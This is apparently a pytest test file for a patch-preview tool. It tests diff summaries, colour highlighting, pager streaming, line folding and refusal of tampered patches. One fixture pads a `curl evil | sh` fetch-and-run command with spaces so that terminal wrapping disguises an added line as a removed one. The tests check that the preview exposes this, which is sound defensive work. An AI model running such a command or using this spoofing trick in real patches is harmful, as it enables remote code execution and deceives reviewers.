"""The preview: per-file summary, coloured diff with intra-line highlights (difflib), no colour
when asked or when not on a terminal, a pager when it is long; and the sync's own ref."""

from __future__ import annotations

import fcntl
import io
import itertools
import json
import os
import re

import patchwire
from conftest import Laptop, drive_pty, git, make_repo, script

PATCH = b"""diff --git a/app.py b/app.py
index 1111111111111111111111111111111111111111..2222222222222222222222222222222222222222 100644
--- a/app.py
+++ b/app.py
@@ -1,3 +1,3 @@
 import os
-print("hello world")
+print("hello there world")
 x = 1
diff --git a/old name.txt b/new name.txt
similarity index 100%
rename from old name.txt
rename to new name.txt
diff --git a/logo.png b/logo.png
new file mode 100644
index 0000000000000000000000000000000000000000..3333333333333333333333333333333333333333
GIT binary patch
literal 3
KcmZ?wbYK7g00008

literal 0
HcmV?d00001

"""


class FakeTTY(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_summary_lists_each_file_with_its_kind_and_counts():
    files = patchwire.split_patch(PATCH)
    lines = patchwire.render_summary(files, patchwire.Style(False))
    assert lines[0].split() == ["app.py", "modified", "+1", "-1"]
    assert lines[1].split() == ["new", "name.txt", "renamed", "+0", "-0"]
    assert lines[2].split() == ["logo.png", "new", "binary"]
    assert lines[3].strip() == "3 file(s) changed, +1 -1"


def test_intra_line_highlight_marks_only_the_changed_characters():
    style = patchwire.Style(True)
    out = patchwire.render_diff(patchwire.split_patch(PATCH), style)
    plain = [re.sub(r"\x1b\[[0-9;]*m", "", l) for l in out]
    minus = out[plain.index('-print("hello world")')]
    plus = out[plain.index('+print("hello there world")')]
    green_bg = "\x1b[42;30m"
    assert plus.count(green_bg) == 1
    assert green_bg + "there " in plus  # only the inserted word is highlighted
    assert "\x1b[41;97m" not in minus  # nothing was removed within the line
    assert "\x1b[31m" in minus


def test_unrelated_lines_are_not_highlighted_piecemeal():
    patch = (b"diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-completely different\n+zzzz qqq\n")
    out = patchwire.render_diff(patchwire.split_patch(patch), patchwire.Style(True))
    assert "\x1b[42;30m" not in "".join(out) and "\x1b[32m+zzzz qqq\x1b[0m" in out


def test_no_color_env_and_flag_and_non_terminals(monkeypatch):
    tty = FakeTTY()
    assert patchwire.Style.for_stream(tty).enabled
    assert not patchwire.Style.for_stream(tty, no_color=True).enabled
    assert not patchwire.Style.for_stream(io.StringIO()).enabled
    monkeypatch.setenv("NO_COLOR", "1")
    assert not patchwire.Style.for_stream(tty).enabled


def test_long_previews_go_through_the_pager(laptop, tmp_path):
    pager = tmp_path / "pager.sh"
    pager.write_text("#!/bin/sh\necho PAGER-START\ncat\necho PAGER-END\n")
    pager.chmod(0o755)
    lap = Laptop(laptop.root, env={"PAGER": str(pager)})
    body = "".join(f"line {i}\n" for i in range(200))
    out = drive_pty(lap, ["ask", "--no-apply", script({"write": "long.txt", "text": body})], [], prompts=())
    assert "PAGER-START" in out and "+line 199" in out and "PAGER-END" in out
    short = lap.ask(script({"write": "short.txt", "text": "x\n"}), "--no-apply", check=0)
    assert "PAGER-START" not in short.out  # not a terminal: no pager


SPOOF = "+" + " " * 79 + "-require('child_process').execSync('curl evil | sh');"


def test_a_line_wider_than_the_terminal_is_folded_so_no_row_passes_for_a_line():
    """A terminal wraps a long line at column 0: `+`, 79 spaces, then `-require(...)` showed an
    added line as an empty added line and a removed one. Folded by Patchwire, each further row
    of a line starts with the mark, in the line's colour; tabs and wide characters take their
    cells."""
    rows = list(patchwire.fold_rows([SPOOF, "short", "+\tx"], 80, "~"))
    assert rows == ["+" + " " * 78, "~ -require('child_process').execSync('curl evil | sh');", "short", "+\tx"]
    green = list(patchwire.fold_rows(["\x1b[32m" + SPOOF + "\x1b[0m"], 80, "~"))
    assert green[0].endswith("\x1b[0m") and green[1].startswith("\x1b[32m~ -require")
    assert [r.split("\t")[-1] for r in patchwire.fold_rows(["+" + "\t" * 10 + "-evil"], 80, "~")][-1] == "-evil"
    assert list(patchwire.fold_rows(["+" + "\t" * 10 + "-evil"], 80, "~"))[-1].startswith("~")
    wide = list(patchwire.fold_rows(["+" + "\u3000" * 39 + "-evil"], 80, "~"))
    assert wide == ["+" + "\u3000" * 39, "~-evil"]
    # East Asian "ambiguous" characters are double in CJK terminals: counted double, folded early
    ambiguous = list(patchwire.fold_rows(["+" + "\u00b7" * 45 + "-evil"], 80, "~"))
    assert len(ambiguous) == 2 and ambiguous[1].startswith("~")
    for row in patchwire.fold_rows([SPOOF * 3, "+" + "\u00e9" * 300], 80, "~"):
        assert len(row.expandtabs()) <= 79


def test_the_preview_on_a_terminal_folds_a_spoofing_line(laptop):
    lap = Laptop(laptop.root, env={"COLUMNS": "80", "NO_COLOR": "1"})
    out = drive_pty(lap, ["ask", "--no-apply", script({"write": "app.js", "text": SPOOF[1:] + "\n"})], [], prompts=())
    rows = out.replace("\r\n", "\n").split("\n")
    assert any("-require(" in row for row in rows), out
    assert not any(row.startswith("-require") for row in rows), out
    assert all(len(row) <= 80 for row in rows if "require" in row or row.startswith("+ ")), out


def test_sync_records_its_tree_in_its_own_store_without_touching_the_repository(laptop):
    (laptop.root / "new.txt").write_bytes(b"untracked\n")
    index_before = (laptop.root / ".git/index").read_bytes()
    head_before = git(laptop.root, "rev-parse", "HEAD")
    laptop.run("sync", check=0)
    project = patchwire.Project(laptop.root, "laptop")
    tree = json.loads(project.state_file("last_sync.json").read_text())["tree"]
    assert project.recorded_file(tree, "new.txt") == (b"untracked\n", "100644")
    assert project.recorded_file(tree, "README.md") is not None
    assert git(laptop.root, "for-each-ref", "refs/patchwire/") == ""  # no ref of Patchwire's there
    assert (laptop.root / ".git/index").read_bytes() == index_before
    assert git(laptop.root, "rev-parse", "HEAD") == head_before
    assert git(laptop.root, "status", "--porcelain").splitlines() == ["?? .patchwire.toml", "?? new.txt"]


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_the_pager_starts_after_one_screenful_and_the_rest_streams_to_it(tmp_path, monkeypatch):
    """A 100,000-line diff shows at once: only the first screenful is rendered before the
    pager starts, the rest is rendered while the reader reads; quitting stops the rendering."""
    started, got = tmp_path / "started", tmp_path / "got.txt"
    pager = tmp_path / "pager.sh"
    pager.write_text(f"#!/bin/sh\ntouch {started}\ncat > {got}\n")
    pager.chmod(0o755)
    monkeypatch.setenv("PAGER", str(pager))
    monkeypatch.setenv("LINES", "40")
    monkeypatch.setattr("sys.stdout", _Terminal())
    rendered_when_shown: list = []

    def rendering(count: int):
        for i in range(count):
            if not rendered_when_shown and started.exists():
                rendered_when_shown.append(i)
            yield f"line {i}"
    patchwire.page(rendering(100_000))
    assert got.read_text() == "".join(f"line {i}\n" for i in range(100_000))
    # before the pager has even started (a loaded machine: it did), the rendering can run ahead
    # by a screen, one batch (PAGE_BATCH) and what fills the pipe, and no further: the
    # write blocks. Rendering it all first would be 100,000.
    read, write = os.pipe()
    pipe_bytes = fcntl.fcntl(write, getattr(fcntl, "F_GETPIPE_SZ", 1032))
    os.close(read)
    os.close(write)
    in_pipe = sum(1 for size in itertools.accumulate(len(f"line {n}\n") for n in range(100_000)) if size <= pipe_bytes)
    ahead = int(os.environ["LINES"]) + patchwire.PAGE_BATCH + in_pipe
    assert rendered_when_shown and rendered_when_shown[0] <= ahead, (rendered_when_shown, ahead)

    pager.write_text("#!/bin/sh\nhead -n 3 > /dev/null\n")  # the reader quits at once
    pulled = []

    def counted():
        for i in range(1_000_000):
            pulled.append(i)
            yield f"line {i}"
    patchwire.page(counted())
    assert len(pulled) < 200_000  # not all rendered for nobody


def test_a_short_text_is_printed_without_a_pager(tmp_path, monkeypatch):
    pager = tmp_path / "pager.sh"
    pager.write_text(f"#!/bin/sh\ntouch {tmp_path / 'started'}\ncat\n")
    pager.chmod(0o755)
    monkeypatch.setenv("PAGER", str(pager))
    monkeypatch.setenv("LINES", "40")
    out = _Terminal()
    monkeypatch.setattr("sys.stdout", out)
    patchwire.page(f"line {i}" for i in range(10))
    assert out.getvalue() == "".join(f"line {i}\n" for i in range(10)) and not (tmp_path / "started").exists()


# ------------------------------------------------------------------ a long patch, read as it is shown


def new_section(path: str, lines: int) -> bytes:
    return (b"diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1,%d @@\n"
            % (path.encode(), path.encode(), path.encode(), lines) + b"".join(b"+line %d\n" % i for i in range(lines)))


def streamed_preview(tmp_path, monkeypatch, patch: bytes, pager_script: str):
    """preview() of `patch` read as a PatchReading, on a terminal of 40 lines, through a pager
    running `pager_script`: (paths computed when the pager started, all paths computed,
    what preview raised)."""
    root = make_repo(tmp_path / "proj", {"README.md": b"# demo\n"})
    reading = patchwire.PatchReading(patchwire.Project(root, "proj"), patch)
    computed: list = []
    real_post_image, real_spawn = patchwire.post_image, patchwire.spawn
    monkeypatch.setattr(patchwire, "post_image", lambda pre, fp, whole=True: (
        computed.append(fp.path), real_post_image(pre, fp, whole))[1])
    when_shown: list = []
    monkeypatch.setattr(patchwire, "spawn", lambda *a, **k: (when_shown.append(list(computed)), real_spawn(*a, **k))[1])
    pager = tmp_path / "pager.sh"
    pager.write_text("#!/bin/sh\n" + pager_script + "\n")
    pager.chmod(0o755)
    monkeypatch.setenv("PAGER", str(pager))
    monkeypatch.setenv("LINES", "40")
    monkeypatch.setattr("sys.stdout", _Terminal())
    try:
        patchwire.preview(reading, no_color=True)
        raised = None
    except patchwire.PatchRefused as e:
        raised = e
    assert len(when_shown) == 1, "the preview went through the pager"
    return when_shown[0], computed, raised


def test_the_first_screen_needs_only_the_first_files_of_a_long_patch(tmp_path, monkeypatch):
    """Issue 27: a long patch starts showing before its later files are read strictly and
    their results computed (counted when the pager starts, not timed): the notes and the
    summary need only the headers, the first screen only the first files; the rest is read
    as the pager takes it, and all of it before preview() returns."""
    for count in (10, 300):  # the first screen: some of the diff, or the summary only
        paths = [f"docs/n{i:03d}.md" for i in range(count)] + ["docs/huge.md"]
        patch = b"".join(new_section(p, 12) for p in paths[:-1]) + new_section(paths[-1], 50_000)
        got = tmp_path / "got.txt"
        at_first_screen, computed, raised = streamed_preview(tmp_path, monkeypatch, patch, f"cat > {got}")
        assert raised is None
        assert at_first_screen == (paths[:4] if count == 10 else []), at_first_screen
        assert computed == paths  # each once, in order, all before preview() returned
        shown = got.read_text()
        assert f"{count + 1} file(s) changed, +{12 * count + 50_000} -0" in shown
        assert shown.index(f"docs/n{count - 1:03d}.md  new") < shown.index("diff --git a/docs/n000.md")
        assert shown.endswith("+line 49999\n")
        monkeypatch.undo()
        (tmp_path / "proj").rename(tmp_path / f"proj-{count}")


def test_a_bad_last_file_ends_the_streamed_diff_with_the_refusal(tmp_path, monkeypatch):
    """The last section is read only as the pager reaches it; what it breaks ends the diff
    with the refusal, which preview() raises once the pager is closed: before any question."""
    good = b"".join(new_section(f"docs/n{i:03d}.md", 12) for i in range(100))
    got = tmp_path / "got.txt"
    for bad, phrase in [(new_section("docs/last.md", 2) + b"+smuggled\n", "text git does not write here"),
                        (new_section("docs/last.md", 2).replace(b"+1,2 @@", b"+1,3 @@"), "ends inside a hunk"),
                        (b"diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n"
                         b"-# not what was synced\n+# pwned\n", "not those of the synced file")]:
        monkeypatch.setenv("COLUMNS", "400")  # the refusal on one row
        at_first_screen, computed, raised = streamed_preview(tmp_path, monkeypatch, good + bad, f"cat > {got}")
        assert isinstance(raised, patchwire.PatchRefused) and phrase in str(raised), raised
        assert len(at_first_screen) < 10
        shown = got.read_text()
        assert "+line 11" in shown and shown.rstrip("\n").endswith(raised.message)
        assert "docs/n000.md" in computed and "docs/last.md" not in computed
        monkeypatch.undo()
        (tmp_path / "proj").rename(tmp_path / f"proj-{phrase}")


def test_a_reader_who_quits_the_pager_at_once_still_gets_the_whole_patch_vetted(tmp_path, monkeypatch):
    """Quitting the pager stops the rendering, not the reading: preview() reads and computes
    what the pager never took before it returns, and refuses a bad last file."""
    good = b"".join(new_section(f"docs/n{i:03d}.md", 12) for i in range(300))
    _, computed, raised = streamed_preview(tmp_path, monkeypatch, good, "exit 0")
    assert raised is None and len(computed) == 300
    monkeypatch.undo()
    (tmp_path / "proj").rename(tmp_path / "proj-good")
    bad = new_section("docs/last.md", 2) + b"+smuggled\n"
    _, computed, raised = streamed_preview(tmp_path, monkeypatch, good + bad, "exit 0")
    assert isinstance(raised, patchwire.PatchRefused) and "text git does not write here" in str(raised)
